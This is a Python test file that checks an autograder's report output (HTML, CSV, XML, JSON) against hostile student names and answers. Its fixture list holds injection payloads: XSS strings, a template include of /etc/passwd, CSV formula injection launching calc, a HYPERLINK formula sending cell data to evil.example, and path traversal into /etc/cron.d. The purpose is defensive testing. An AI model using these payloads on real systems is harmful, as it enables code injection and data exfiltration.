"""Whatever a student is called and writes: every file stays what it is, and nothing of it is run or believed."""

from __future__ import annotations

import csv
import io
import json
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import pytest
from generated_class import made_up, with_answer, with_names

from autograder.cli import main
from autograder.grading.reports.command import FORMATS
from autograder.grading.reports.reading import from_json
from autograder.grading.reports.results import Results, texts

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "attribute": "\"'><img src=x onerror=alert(1)>",
    "style": "</style><style>*{display:none}</style>",
    "template": "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "formula": '=cmd|"/c calc"!A1',
    "hidden formula": '"=HYPERLINK("http://evil.example/?x="&A1)',
    "right to left": "\u202eevil\u2066",
    "nul": "a\x00b\x1b[2J",
    "surrogate": "\udfff\ud800",
    "entities": "&lt;&#x3c;]]><!--",
    "path": "../../../../etc/cron.d/evil",
    "long": "A" * 10_000,
    "lines": "a\r\n\r\nb\u2028c\u0085d",
    "emoji": "👩‍💻🇪🇺",
}


class Tags(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append(tag)
        self.found += [name for name, value in attrs if name.startswith("on") or "evil" in (value or "")]


def hostile(word: str) -> Results:
    results = with_names(made_up(4), word)
    return with_answer(results, f"{word}\n{word}", name=word, message=word, found=word, wanted=word, why=word)


@pytest.fixture(params=HOSTILE)
def word(request: pytest.FixtureRequest) -> str:
    return HOSTILE[request.param]


@pytest.fixture
def written(word: str, tmp_path: Path) -> Path:
    """Everything that can be written, in a folder of its own."""
    document = tmp_path / "results.json"
    document.write_text("".join(texts(hostile(word))))
    out = tmp_path / "a" / "b" / "c" / "out"
    assert main(["report", *FORMATS, "--results", str(document), "--out", str(out)]) == 0
    outside = {path for path in tmp_path.rglob("*") if out not in (path, *path.parents)}
    assert outside == {document, *list(out.parents)[:3]}
    return out


def test_every_format_survives(written: Path, word: str) -> None:
    honest = Tags((written / "class.html").read_text("utf-8")).found
    assert not {"script", "img", "iframe", "onerror"} & set(honest)
    for page in [written / "class.html", *(written / "students").iterdir()]:
        text = page.read_text("utf-8")
        found = Tags(text).found
        assert not {"script", "img", "onerror", "evil"} & set(found) and found.count("style") == 1
        assert "49{%" not in text and "\x00" not in text and "\u202e" not in text
    for name in ("grades.csv", "criteria.csv", "canvas.csv", "moodle.csv", "similarity.csv"):
        rows = list(csv.reader(io.StringIO((written / name).read_bytes().decode("utf-8-sig"), newline="")))
        assert len({len(row) for row in rows}) == 1
        for cell in (cell for row in rows for cell in row):
            assert not cell.startswith(("=", "+", "@", "\t", "\r")) and "\x00" not in cell and len(cell) < 3_000
            assert not cell.startswith("-") or cell == "-" or cell.lstrip("-").replace(".", "").isdecimal()
    suites = ElementTree.parse(written / "junit.xml").getroot()
    assert len(suites) == 8
    for path in (written / "gradescope").rglob("*.json"):
        assert json.loads(path.read_text())["output_format"] == "text"
    kept = from_json(json.loads((written / "results.json").read_text()))
    assert kept.students[0].id == word


def test_what_a_student_wrote_is_still_there_to_be_read(written: Path) -> None:
    found = next(csv.DictReader(io.StringIO((written / "criteria.csv").read_bytes().decode("utf-8-sig"))))
    assert found["found"]


def test_a_file_for_each_student_none_over_another(tmp_path: Path) -> None:
    document = tmp_path / "results.json"
    document.write_text("".join(texts(with_names(made_up(6), "Ada", "ada", "ADA", "a/da", "a:da", ".."))))
    assert main(["report", "html", "gradescope", "--results", str(document), "--out", str(tmp_path / "out")]) == 0
    results = from_json(json.loads(document.read_text()))
    handed_in = {one.student for one in results.submissions if one.handed_in}
    assert len(list((tmp_path / "out" / "students").iterdir())) == len(handed_in)
    assert len(list((tmp_path / "out").rglob("results.json"))) == sum(one.handed_in for one in results.submissions)
